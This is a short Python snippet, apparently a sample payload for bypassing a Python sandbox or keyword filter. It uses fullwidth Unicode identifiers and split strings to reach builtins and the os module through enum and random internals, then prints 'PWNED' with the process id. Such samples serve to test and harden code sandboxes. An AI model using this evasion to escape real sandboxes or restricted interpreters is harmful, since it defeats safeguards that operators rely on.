# unicode: enum.ｂｌｔｎｓ in fullwidth: the same real builtins
import enum, random
M = "PWN" + "ED"
print(M, enum.ｂｌｔｎｓ.getattr(random, "_o" + "s").getpid())
